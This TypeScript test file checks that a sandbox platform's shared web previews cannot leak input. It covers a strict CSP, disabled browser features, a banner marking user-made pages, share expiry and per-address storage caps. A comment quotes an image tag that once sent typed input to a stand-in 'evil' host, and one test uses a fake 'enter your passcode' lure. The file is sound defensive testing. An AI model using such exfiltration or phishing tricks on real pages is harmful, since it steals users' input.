import path from "node:path";
import Database from "better-sqlite3";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { UPSTREAM_CALLS } from "~/contract/calls";
import { CLIENT_ADDRESS_HEADER } from "~/contract/code-values";
import { NOT_FOUND_TEXT } from "~/contract/page-texts";
import { SANDBOX_SHARE_LIMITS, SANDBOX_TEXTS } from "~/contract/sandbox-values";
import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { SANDBOX_PREVIEW_PATH, SHARED_PREVIEW_PATH } from "~/contract/sandbox-preview";
import WebPreview from "~/sandbox/runners/web/WebPreview";
import {
  PREVIEW_CSP,
  SHARED_PREVIEW_CSP,
  previewBootstrapResponse,
} from "~server/bff/sandbox-preview.server";
import { DB_FILE_NAME } from "~server/platform/db/database";
import type { RunningPlatform } from "~server/platform/server";
import { SEED_SANDBOXES } from "~server/platform/seed/sandboxes";
import { Browser, loginByOtp } from "../integration/auth/browser";
import {
  bearer,
  devSignIn,
  makeDataDir,
  post,
  start,
} from "../integration/platform/platform-harness";
import { startStack, type Stack } from "../support/stack";
import { waitUntil } from "../support/wait";

/**
 * Visitors' shared WEB sandboxes (issue 30): a preview can host a convincing "session expired,
 * enter your passcode" form under our header, so nothing typed into it may leave. The preview's
 * own CSP forbids form posts and every request that is not to data: or blob: (an
 * `<img src="https://evil/?typed">` once carried input out through `img-src https:`).
 */
function directives(csp: string): Map<string, string[]> {
  return new Map(
    csp.split(";").map((part) => {
      const [name, ...values] = part.trim().split(/\s+/);
      return [name, values];
    }),
  );
}

describe("the WEB preview's CSP lets nothing leave", () => {
  it("forbids form posts and any request to another host: data: and blob: only", () => {
    const header = previewBootstrapResponse().headers.get("Content-Security-Policy") ?? "";
    expect(header).toBe(PREVIEW_CSP);
    const csp = directives(header);
    expect(csp.get("default-src")).toEqual(["'none'"]);
    expect(csp.get("form-action")).toEqual(["'none'"]);
    expect(csp.get("img-src")).toEqual(["data:", "blob:"]);
    expect(csp.get("media-src")).toEqual(["data:", "blob:"]);
    expect(csp.get("font-src")).toEqual(["data:"]);
    // Every fetching directive falls back to default-src 'none' unless named; none names a host.
    for (const [name, values] of csp) {
      for (const value of values) expect(`${name} ${value}`).not.toMatch(/https?:|wss?:|\*/i);
    }
    for (const open of ["connect-src", "frame-src", "child-src", "worker-src", "object-src"]) {
      expect(csp.has(open)).toBe(false);
    }
  });

  it("a shared copy's preview blocks WebRTC where the browser knows how (issue 41)", () => {
    const shared = previewBootstrapResponse(new Request(`http://x${SHARED_PREVIEW_PATH}`));
    const csp = shared.headers.get("Content-Security-Policy") ?? "";
    expect(csp).toBe(SHARED_PREVIEW_CSP);
    expect(directives(csp).get("webrtc")).toEqual(["'block'"]);
    // Everything else is the learner's own preview's policy.
    expect(csp.replace(" webrtc 'block';", "")).toBe(PREVIEW_CSP);
    expect(shared.headers.get("ETag")).not.toBe(previewBootstrapResponse().headers.get("ETag"));
    // A shared copy's page frames that bootstrap; a learner's own preview the plain one.
    const frameOf = (shared: boolean) =>
      renderToStaticMarkup(
        createElement(WebPreview, { files: {}, readOnly: shared, dark: false, shared }),
      );
    expect(frameOf(true)).toContain(`src="${SHARED_PREVIEW_PATH.replace("&", "&amp;")}"`);
    expect(frameOf(false)).toContain(`src="${SANDBOX_PREVIEW_PATH}"`);
  });

  it("every preview turns off every powerful feature its frames could ask for", () => {
    const headers = previewBootstrapResponse().headers;
    const policy = new Map(
      (headers.get("Permissions-Policy") ?? "").split(",").map((entry) => {
        const [feature, allow] = entry.trim().split("=");
        return [feature, allow];
      }),
    );
    for (const feature of ["camera", "microphone", "display-capture", "geolocation", "payment"]) {
      expect(policy.get(feature)).toBe("()");
    }
    expect([...policy.values()].every((allow) => allow === "()")).toBe(true);
    // A 304 carries the same policy (the browser keeps the first answer's document).
    const again = previewBootstrapResponse(
      new Request("http://x/sandbox-preview", {
        headers: { "If-None-Match": headers.get("ETag") ?? "" },
      }),
    );
    expect(again.status).toBe(304);
    expect(again.headers.get("Permissions-Policy")).toBe(headers.get("Permissions-Policy"));
  });
});

/**
 * A visitor's share is someone else's page under our header: its page says so outside the
 * preview (SANDBOX_TEXTS.sharedByUser), it expires SANDBOX_SHARE_LIMITS.anonymousTtlMs after it
 * was made (then the not-found page; a periodic sweep deletes it), and all visitors' shares
 * together hold at most SANDBOX_SHARE_LIMITS.anonymousTotalBytes (before: 7 MB a minute per
 * address, kept forever). A signed-in learner's share is theirs and stays.
 */
describe("visitors' shared sandboxes", () => {
  let stack: Stack;
  const landing = SEED_SANDBOXES.find((s) => s.slug === "landing-page")!;
  const page = (text: string) => [{ fileName: "index.html", code: `<h1>${text}</h1>` }];

  beforeAll(async () => {
    stack = await startStack({}, { platform: { devOtp: true } });
  }, 60_000);
  afterAll(async () => {
    await stack?.stop();
  });

  async function shareAs(browser: Browser, text: string): Promise<string> {
    await browser.get("/login");
    const res = await browser.post(
      "/api/sandbox",
      {
        csrf: browser.csrf(),
        intent: "share",
        sandboxId: landing.id,
        sandboxType: "WEB",
        files: JSON.stringify(page(text)),
      },
      { accept: "application/json" },
    );
    expect(res.status).toBe(200);
    return ((await res.json()) as { sharedLink: string }).sharedLink;
  }

  it("shows the made-by-a-user banner on the shared page, outside the preview", async () => {
    const link = await shareAs(new Browser(stack), "Session expired: enter your passcode");
    const res = await new Browser(stack).get(link);
    expect(res.status).toBe(200);
    const html = await res.text();
    const banner = html.indexOf(SANDBOX_TEXTS.sharedByUser);
    expect(banner).toBeGreaterThan(-1);
    // In our own document, before the workspace and its preview frame, never inside a frame.
    const frame = html.indexOf("<iframe");
    expect(frame === -1 || banner < frame).toBe(true);
    const words = SANDBOX_TEXTS.sharedByUser.replace(/[.*+?^${}()|[\]\\]/g, "\\$&");
    expect(html).toMatch(new RegExp(`role="note"[^>]*>(?:<[^>]+>)*${words}`));
  });

  it("ends a visitor's share after its time (not-found page), keeps a learner's", async () => {
    const visitors = await shareAs(new Browser(stack), "A visitor's page");
    const learner = new Browser(stack);
    await loginByOtp(learner, stack, "learner@example.com");
    const learners = await shareAs(learner, "A learner's page");
    expect((await new Browser(stack).get(visitors)).status).toBe(200);

    await advanceClock(stack.platformUrl, SANDBOX_SHARE_LIMITS.anonymousTtlMs / 1000 + 1);
    const expired = await new Browser(stack).get(visitors);
    expect(expired.status).toBe(404);
    expect(await expired.text()).toContain(NOT_FOUND_TEXT.replace(/'/g, "&#x27;"));
    expect((await new Browser(stack).get(learners)).status).toBe(200);
  });
});

async function advanceClock(platformUrl: string, seconds: number): Promise<void> {
  const res = await fetch(`${platformUrl}/__test/advance-clock`, {
    method: "POST",
    headers: { "content-type": "application/json" },
    body: JSON.stringify({ seconds }),
  });
  expect(res.status).toBe(200);
}

describe("the platform's store of visitors' shares", () => {
  const CAP = 4_000;
  const data = makeDataDir();
  let platform: RunningPlatform;
  let now = Date.parse("2026-11-28T00:00:00Z");
  const landing = SEED_SANDBOXES.find((s) => s.slug === "landing-page")!;
  /** A share whose files' JSON is about `bytes` long. */
  const shareBody = (tag: string, bytes: number) => ({
    sandboxId: landing.id,
    sandboxType: "WEB",
    files: [{ fileName: "index.html", code: `${tag}:${"x".repeat(bytes)}` }],
  });
  const share = (body: unknown, headers: Record<string, string> = {}) =>
    post(platform.url, UPSTREAM_CALLS.sandboxCodeShare.path, body, headers);
  const storedShares = () => {
    const db = new Database(path.join(data.dir, DB_FILE_NAME), { readonly: true });
    try {
      return (db.prepare("SELECT COUNT(*) AS n FROM sandbox_shares").get() as { n: number }).n;
    } finally {
      db.close();
    }
  };

  beforeAll(async () => {
    platform = await start(data.dir, {
      now: () => now,
      sandboxShares: { anonymousTotalBytes: CAP, sweepEveryMs: 50 },
    });
  }, 60_000);
  afterAll(async () => {
    await platform?.close();
    data.cleanup();
  });

  it("refuses a visitor's share past the total (429 with its words), never a learner's", async () => {
    expect((await share(shareBody("a", 1500))).status).toBe(200);
    expect((await share(shareBody("b", 1500))).status).toBe(200);
    const full = await share(shareBody("c", 1500));
    expect(full.status).toBe(429);
    expect(full.body).toMatchObject({ message: SANDBOX_TEXTS.sharesFull });
    // The same content again takes no more room: it answers its existing share.
    expect((await share(shareBody("a", 1500))).status).toBe(200);
    const token = await devSignIn(platform.url, "learner@example.com");
    expect((await share(shareBody("c", 1500), bearer(token))).status).toBe(200);
    // A learner who shares a visitor's files keeps them: they no longer count as a visitor's.
    expect((await share(shareBody("a", 1500), bearer(token))).status).toBe(200);
    expect((await share(shareBody("e", 1500))).status).toBe(200);
    expect((await share(shareBody("f", 1500))).status).toBe(429);
  });

  it("deletes expired shares in its periodic sweep, which makes room again", async () => {
    expect(storedShares()).toBe(4);
    now += SANDBOX_SHARE_LIMITS.anonymousTtlMs + 1000;
    // Only the learner's two are left once the sweep has run (no share call in between).
    await waitUntil(() => storedShares() === 2);
    expect((await share(shareBody("f", 1500))).status).toBe(200);
    expect((await share(shareBody("d", 1500))).status).toBe(200);
  });
});

/**
 * Issue 41: at 20 shares a minute of about 100 KB, one address filled the visitors' 64 MB in
 * about 32 minutes, and then every visitor's share was refused for up to 7 days. One address now
 * holds at most SANDBOX_SHARE_LIMITS.anonymousBytesPerAddress of live shares (IPv6 per /64); the
 * same files are stored and counted once, from whichever sandbox; expired shares give their
 * room back to their address.
 */
describe("one address holds a fair part of the visitors' shares", () => {
  const data = makeDataDir();
  let platform: RunningPlatform;
  let now = Date.parse("2026-11-28T00:00:00Z");
  const [first, second] = SEED_SANDBOXES;
  const shareBody = (tag: string, sandboxId = first.id) => ({
    sandboxId,
    sandboxType: "WEB",
    files: [{ fileName: "index.html", code: `${tag}:${"x".repeat(1400)}` }],
  });
  const shareFrom = (address: string, body: unknown) =>
    post(platform.url, UPSTREAM_CALLS.sandboxCodeShare.path, body, {
      [CLIENT_ADDRESS_HEADER]: address,
    });

  beforeAll(async () => {
    platform = await start(data.dir, {
      now: () => now,
      sandboxShares: { anonymousTotalBytes: 40_000, anonymousBytesPerAddress: 3_500 },
    });
  }, 60_000);
  afterAll(async () => {
    await platform?.close();
    data.cleanup();
  });

  it("refuses one address past its part, while others still share", async () => {
    const flooder = "203.0.113.7";
    expect((await shareFrom(flooder, shareBody("a"))).status).toBe(200);
    expect((await shareFrom(flooder, shareBody("b"))).status).toBe(200);
    const refused = await shareFrom(flooder, shareBody("c"));
    expect(refused.status).toBe(429);
    expect(refused.body).toMatchObject({ message: SANDBOX_TEXTS.sharesFullForAddress });
    // The rest of the visitors' total is still everybody else's.
    expect((await shareFrom("198.51.100.23", shareBody("c"))).status).toBe(200);
    // Another address of the same IPv6 /64 is the same visitor.
    expect((await shareFrom("2001:db8:1:2::1", shareBody("d"))).status).toBe(200);
    expect((await shareFrom("2001:db8:1:2::1", shareBody("e"))).status).toBe(200);
    expect((await shareFrom("2001:db8:1:2:ffff::9", shareBody("f"))).status).toBe(429);
  });

  it("stores and counts the same files once, from any sandbox", async () => {
    const again = await shareFrom("203.0.113.7", shareBody("a"));
    const elsewhere = await shareFrom("203.0.113.7", shareBody("a", second.id));
    expect(again.status).toBe(200);
    expect(elsewhere.status).toBe(200);
    expect(elsewhere.body).toEqual(again.body);
  });

  it("counts live bytes only: an address's expired shares give its room back", async () => {
    now += SANDBOX_SHARE_LIMITS.anonymousTtlMs + 1000;
    expect((await shareFrom("203.0.113.7", shareBody("g"))).status).toBe(200);
    expect((await shareFrom("203.0.113.7", shareBody("h"))).status).toBe(200);
  });
});
